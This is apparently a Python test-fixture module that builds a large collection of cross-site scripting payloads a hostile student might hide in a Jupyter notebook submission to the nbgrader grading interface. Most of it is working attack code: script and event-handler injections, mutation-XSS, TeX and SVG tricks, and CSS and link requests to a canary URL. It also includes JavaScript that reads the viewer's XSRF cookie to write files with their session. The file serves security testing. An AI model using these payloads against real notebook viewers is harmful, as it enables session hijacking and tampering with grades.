"""What a hostile student might write, so that it acts when the teacher looks at it.

Each payload, if it works, asks `url` (a server on this machine, which must not be asked) or acts
with the session of whoever looks: it then writes a file canary-NAME.txt beside the notebooks, and
says so in window.struck.
"""

import base64
import json


def act(url, name):
    """JavaScript without quotation marks of the double kind that acts wherever it runs."""
    return (
        f"(window.top||window).struck='{name}';fetch('{url}/{name}');"
        f"fetch('/api/contents/canary-{name}.txt',{{method:'PUT',headers:{{'X-XSRFToken':"
        "(document.cookie.match('_xsrf=([^;]*)')||[])[1]},body:JSON.stringify("
        f"{{type:'file',format:'text',content:'{name}'}})}})"
    )


def encoded(text):
    """Text in base64."""
    return base64.b64encode(text.encode()).decode()


def texts(url):
    """Markdown, by name."""

    def js(name):
        return act(url, name)

    def html(name):
        return f"<script>{js(name)}</script><img src='{url}/{name}'>"

    def tex(name):
        return js(name).replace("{", "%7B").replace("}", "%7D").replace("_", "%5F")

    def entities(text):
        return "".join(f"&#{ord(c)};" for c in text)

    made = {
        "script": f"<script>{js('script')}</script>",
        "script-split": f"<scr<script>ipt>{js('script-split')}</scr</script>ipt>",
        "onerror": f'<img src=x onerror="{js("onerror")}">',
        "onerror-slash": f'<img/src=x/onerror="{js("onerror-slash")}"/>',
        "onerror-quotes": f'<img """><img src=x onerror="{js("onerror-quotes")}">"\\>',
        "onerror-newline": f'text\n<img\nsrc=x\nonerror="{js("onerror-newline")}"\n>',
        "onerror-code": f'`a` `<img src=x>` ``<img src=x onerror="{js("onerror-code")}">',
        "onerror-math": f'$<img src=x onerror="{js("onerror-math")}">$',
        "onerror-link": f'[<img src=x onerror="{js("onerror-link")}">](https://example.org)',
        "onerror-alt": f'![" onerror="{js("onerror-alt")}](x "a\' onerror=x")',
        "onerror-heading": f'## Task <img src=x onerror="{js("onerror-heading")}">',
        "onerror-info": f'```<img src=x onerror="{js("onerror-info")}">\nx\n```',
        "mermaid": f'```mermaid\ngraph TD\n<img src=x onerror="{js("mermaid")}">\n```',
        "comment": f'<!--><img src=x onerror="{js("comment")}">-->',
        "cdata": f'<![CDATA[><img src=x onerror="{js("cdata")}">]]>',
        "processing": f'<?x ><img src=x onerror="{js("processing")}">?>',
        "noscript": "<noscript><p title=\"</noscript><img src=x onerror='alert(1)'>\"></noscript>"
        f'<img src=x onerror="{js("noscript")}">',
        "mutation": "<form><math><mtext></form><form><mglyph><style></math>"
        f'<img src=x onerror="{js("mutation")}">',
        "mutation-table": "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--><img src=x onerror=&quot;{js("mutation-table")}&quot;>">',
        "svg-onload": f'<svg onload="{js("svg-onload")}"></svg>',
        "svg-script": f"<svg><script>{js('svg-script')}</script></svg>",
        "svg-animate": "<svg><a><animate attributeName=href "
        f'values="javascript:{js("svg-animate")}"></animate>'
        "<text x=20 y=20>click</text></a></svg>",
        "svg-set": f'<svg><image><set attributeName=href to="{url}/svg-set"></set></image></svg>',
        "svg-use": f'<svg><use href="{url}/svg-use#a"></use><image href="{url}/svg-image"></svg>',
        "svg-foreign": "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' "
        f'onload="{js("svg-foreign")}"></body></foreignObject></svg>',
        "iframe-srcdoc": f'<iframe srcdoc="{html("iframe-srcdoc")}"></iframe>',
        "iframe-src": f'<iframe src="javascript:{js("iframe-src")}"></iframe>',
        "iframe-host": f'<iframe src="{url}/iframe-host"></iframe>',
        "iframe-data": f'<iframe src="data:text/html;base64,{encoded(html("iframe-data"))}">',
        "object": f'<object data="data:text/html;base64,{encoded(html("object"))}"></object>',
        "object-host": f'<object data="{url}/object-host"></object>',
        "embed": f'<embed src="data:image/svg+xml;base64,{encoded(svg(js("embed")))}">',
        "details": f'<details open ontoggle="{js("details")}"><summary>x</summary>y</details>',
        "autofocus": f'<input autofocus onfocus="{js("autofocus")}">',
        "tabindex": f'<b tabindex=1 autofocus onfocus="{js("tabindex")}">x</b>',
        "marquee": f'<marquee onstart="{js("marquee")}">x</marquee>',
        "video": f'<video src="{url}/video" onloadstart="{js("video")}" autoplay></video>',
        "video-source": f'<video><source onerror="{js("video-source")}"></video>',
        "animation": "<style>@keyframes x{}</style>"
        f'<b style="animation-name:x" onanimationstart="{js("animation")}">x</b>',
        "body": f'<body onload="{js("body")}" background="{url}/body">',
        "link-javascript": f"[click](javascript:{js('link-javascript').replace(' ', '%20')})",
        "link-angle": f"[click](<javascript:{js('link-angle')}>)",
        "link-entity": f"[click]({entities('javascript:')}{js('link-entity')})",
        "link-tab": f'<a href="java&#9;script:{js("link-tab")}">click</a>',
        "link-upper": f'<a href=" &#1; JaVaScRiPt:{js("link-upper")}">click</a>',
        "link-auto": f"<javascript:{js('link-auto').replace(' ', '%20')}>",
        "link-reference": f"[click][r]\n\n[r]: javascript:{js('link-reference')}",
        "link-data": f'<a href="data:text/html;base64,{encoded(html("link-data"))}">click</a>',
        "link-vbscript": '<a href="vbscript:msgbox(1)">click</a>',
        "link-ping": f'<a href="#x" ping="{url}/link-ping">click</a>',
        "link-here": "[click](/formgrader/?path=../handed%20in/mallory)",
        "picture-host": f"![x]({url}/picture-host)",
        "picture-here": "![x](/formgrader/?path=../handed%20in/mallory)",
        "picture-set": f'<img srcset="{url}/picture-set 1x"><picture><source srcset="{url}/p">',
        "picture-svg": f"![x](data:image/svg+xml;base64,{encoded(svg(js('picture-svg')))})",
        "picture-html": f"![x](data:text/html;base64,{encoded(html('picture-html'))})",
        "table-background": f'<table background="{url}/table-background"><tr><td>x</table>',
        "style-import": f"<style>@import url({url}/style-import);</style>",
        "style-url": f'<p style="background:url({url}/style-url);color:red">x</p>',
        "style-escape": f'<p style="background:\\75rl({url}/style-escape)">x</p>',
        "style-image-set": f"<p style=\"background:image-set('{url}/style-image-set' 1x)\">x</p>",
        "style-font": f"<style>@font-face{{font-family:x;src:url({url}/style-font)}}"
        "*{font-family:x !important}</style>",
        "style-cover": '<div style="position:fixed;inset:0;z-index:99999" class="modal">x</div>',
        "link-sheet": f'<link rel=stylesheet href="{url}/link-sheet">',
        "link-prefetch": f'<link rel=prefetch href="{url}/link-prefetch">',
        "link-preload": f'<link rel=preload as=script href="{url}/link-preload">',
        "link-module": f'<link rel=modulepreload href="{url}/link-module">',
        "link-icon": f'<link rel=icon href="{url}/link-icon">',
        "base": f'<base href="{url}/base/"><script src="x.js"></script>',
        "form": f'<form action="{url}/form" id=f><button autofocus>click</button></form>',
        "button": f'<form><button formaction="javascript:{js("button")}">click</button></form>',
        "interface": '<button class="full-credit">click</button><input class="score" id="open">',
        "clobber": '<a id="submission_id"></a><form id="base_url"><input name="x"></form>',
        "template": f'<template><img src=x onerror="{js("template")}"></template>',
        "shadow": '<div><template shadowrootmode="open">'
        f'<img src=x onerror="{js("shadow")}"></template></div>',
        "title": f'</title><title></title><img src=x onerror="{js("title")}">',
        "textarea": f'</textarea><textarea></textarea><img src=x onerror="{js("textarea")}">',
        "close": f"</div></div></div></body></html><script>{js('close')}</script>",
        "import-map": f'<script type=importmap>{{"imports":{{"x":"{url}/import-map"}}}}</script>',
        "nul": f'<im\x00g src=x onerror="{js("nul")}"><\x00script>{js("nul")}</script>',
        "wide": f"＜script＞{js('wide')}＜/script＞",
        "deep": "<div>" * 3000 + f'<img src=x onerror="{js("deep")}">',
        "tex-href": f"$\\href{{javascript:{tex('tex-href')}}}{{click}}$",
        "tex-require": f"$\\require{{html}}\\href{{javascript:{tex('tex-require')}}}{{click}}$",
        "tex-token": f'$\\mmlToken{{mi}}[href="javascript:{tex("tex-token")}"]{{click}}$',
        "tex-style": f"$\\style{{background:url({url}/tex-style)}}{{x}}$",
        "tex-color": f"$\\color{{url({url}/tex-color)}}{{x}}$",
        "tex-unicode": f"$\\unicode[url({url}/tex-unicode)]{{65}}$",
        "tex-text": f'$\\text{{<img src=x onerror="{js("tex-text")}">}}$',
        "tex-class": "$\\class{full-credit}{x}\\cssId{open}{y}$",
        "tex-define": "$\\def\\frac#1#2{\\href{javascript:1}{x}}\\frac12$ $\\def\\x{\\x\\x}\\x$",
        "refresh": f'<meta http-equiv="refresh" content="0;url={url}/refresh">',
    }
    return made


def svg(js):
    """A drawing with a script."""
    return f'<svg xmlns="http://www.w3.org/2000/svg"><script>{js}</script></svg>'


def bundles(url):
    """Outputs as a kernel sends them, {name: (data, metadata)}."""

    def js(name):
        return act(url, name)

    def image(name):
        return (
            f'<img src=x onerror="{js(name)}"><script>{js(name)}</script><img src="{url}/{name}">'
        )

    widget = {"version_major": 2, "version_minor": 0, "model_id": "0123456789abcdef"}
    plotly = {"data": [], "layout": {"title": image("output-plotly")}}
    return {
        "output-html": ({"text/html": image("output-html")}, {}),
        "output-isolated": (
            {"text/html": image("output-isolated")},
            {"text/html": {"isolated": True}},
        ),
        "output-markdown": ({"text/markdown": image("output-markdown")}, {}),
        "output-javascript": ({"application/javascript": js("output-javascript")}, {}),
        "output-ecma": ({"text/javascript": js("output-ecma")}, {}),
        "output-svg": ({"image/svg+xml": svg(js("output-svg"))}, {}),
        "output-svg-html": ({"image/svg+xml": image("output-svg-html")}, {}),
        "output-latex": (
            {"text/latex": f"$\\href{{javascript:{js('output-latex')}}}{{click}}$ <img src=x>"},
            {},
        ),
        "output-plain": ({"text/plain": image("output-plain")}, {}),
        "output-widget": (
            {"application/vnd.jupyter.widget-view+json": widget | {"x": image("output-widget")}},
            {},
        ),
        "output-mermaid": ({"text/vnd.mermaid": image("output-mermaid")}, {}),
        "output-pdf": ({"application/pdf": encoded(image("output-pdf"))}, {}),
        "output-plotly": ({"application/vnd.plotly.v1+json": plotly}, {}),
        "output-unknown": ({f"application/vnd.<{image('output-unknown')}": "x"}, {}),
        "output-png": ({"image/png": f'x">{image("output-png")}'}, {}),
        "output-png-size": (
            {"image/png": PIXEL},
            {"image/png": {"width": f"1 onload={js('output-png-size').replace(' ', '')}"}},
        ),
        "output-png-file": (
            {"image/png": PIXEL},
            {"filenames": {"image/png": f"{url}/output-png-file"}},
        ),
        "output-jpeg-html": ({"image/jpeg": encoded(image("output-jpeg-html"))}, {}),
    }


PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
    "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def code(url):
    """Code that puts such things out when it runs in a kernel, by name."""
    made = {
        name: "from IPython.display import display\n"
        f"display({data!r}, raw=True, metadata={about!r})"
        for name, (data, about) in bundles(url).items()
    }
    tag = f'<img src=x onerror="{act(url, "code-print")}">'
    made["code-print"] = f"print({tag!r}, '\\x1b]8;;javascript:1\\x07x\\x1b[31m', {tag!r})"
    tag = f'<img src=x onerror="{act(url, "code-error")}">'
    made["code-error"] = f"raise type({tag!r}, (Exception,), {{}})({tag!r})"
    made["code-source"] = f'"</pre></div><script>{act(url, "code-source")}</script>"'
    stream = {"name": f'x"><script>{act(url, "code-stream")}</script>', "text": "x"}
    made["code-stream"] = (
        "k = get_ipython().kernel\n"
        f"k.session.send(k.iopub_socket, 'stream', {stream!r}, k.get_parent(), ident=b'stream')"
    )
    return made


def notebook(url, valid=False):
    """A notebook file's JSON with all of it: texts, outputs, attachments, metadata and names.

    A `valid` one lacks what the format forbids, so that nbconvert makes a page of it.
    """
    bad = f'"><img src=x onerror="{act(url, "metadata")}"><script>{act(url, "metadata")}</script>'
    cells = [
        {"cell_type": "markdown", "id": f"t{number}", "metadata": {}, "source": text}
        for number, text in enumerate(texts(url).values())
    ]
    for name, (data, about) in bundles(url).items():
        shown = {"output_type": "display_data", "data": data, "metadata": about}
        result = {**shown, "output_type": "execute_result", "execution_count": 1}
        cells.append(code_cell(name, [shown, result]))
    error = {
        "output_type": "error",
        "ename": bad,
        "evalue": bad,
        "traceback": [bad, f"\x1b[3{bad}m"],
    }
    cells += [
        code_cell("names", [{"output_type": "stream", "name": bad, "text": bad}, error]),
        code_cell("source", [])
        | {"source": f"%%html\n{bad}", "metadata": {"magics_language": "html"}},
        {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": bad},
    ]
    if not valid:
        cells += [
            code_cell("count", []) | {"execution_count": bad},
            code_cell("tags", []) | {"metadata": {"tags": [bad], "collapsed": bad, "title": bad}},
            code_cell("id", []) | {"id": bad},
            {"cell_type": bad, "id": "kind", "metadata": {}, "source": bad},
        ]
    attached = {
        "a.svg": {"image/svg+xml": encoded(svg(act(url, "attachment")))},
        "b.html": {"text/html": encoded(f"<script>{act(url, 'attachment')}</script>")},
        f"c{bad}": {"image/png": PIXEL},
        "d.png": {"image/png": f'x" onerror="{act(url, "attachment")}'},
    }
    text = "![a](attachment:a.svg) <iframe src='attachment:b.html'></iframe> ![d](attachment:d.png)"
    cell = {"cell_type": "markdown", "id": "attached", "metadata": {}, "source": text}
    cells.append(cell | {"attachments": attached})
    state = {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls"}
    state |= {"model_module_version": "2.0.0", "state": {"value": bad}}
    widgets = {"version_major": 2, "version_minor": 0, "state": {"0123456789abcdef": state}}
    metadata = {
        "title": f"</title><script>{act(url, 'title')}</script>",
        "kernelspec": {"name": "python3", "display_name": bad, "language": bad},
        "language_info": {"name": bad, "pygments_lexer": bad, "file_extension": bad},
        "authors": [{"name": bad}],
        "widgets": {"application/vnd.jupyter.widget-state+json": widgets},
    }
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}


def code_cell(name, outputs):
    """A code cell that has run."""
    cell = {"cell_type": "code", "id": name, "metadata": {}, "execution_count": 1}
    return cell | {"outputs": outputs, "source": json.dumps(name)}
